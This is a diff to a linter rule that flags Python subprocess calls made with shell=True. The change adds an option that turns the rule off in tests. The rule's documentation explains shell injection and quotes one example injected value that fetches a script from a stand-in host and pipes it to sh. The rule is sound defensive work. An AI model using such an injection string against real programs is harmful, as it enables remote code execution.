@@ -19,6 +19,7 @@ export default defineRule({
     bandit: 'B602',
     ruff: 'S602',
     fixable: true,
+    offInTests: true,
     docs: {
       what: 'Finds `subprocess.Popen`, `run`, `call`, `check_call` and `check_output` called with `shell=True` (or a name bound to `True`). A command built at run time is reported with high severity, a fixed literal command with low severity.',
       why: 'With `shell=True` the command string is handed to `/bin/sh -c` (or `cmd.exe /c`), which interprets `;`, `|`, `&&`, `$(…)`, backticks and redirections. If any part of the string comes from a request, a file name or another program, an attacker who puts `; curl evil.sh | sh` in it runs their own commands with the privileges of the Python process. Even a fixed command today becomes injectable the day someone formats a value into it.',
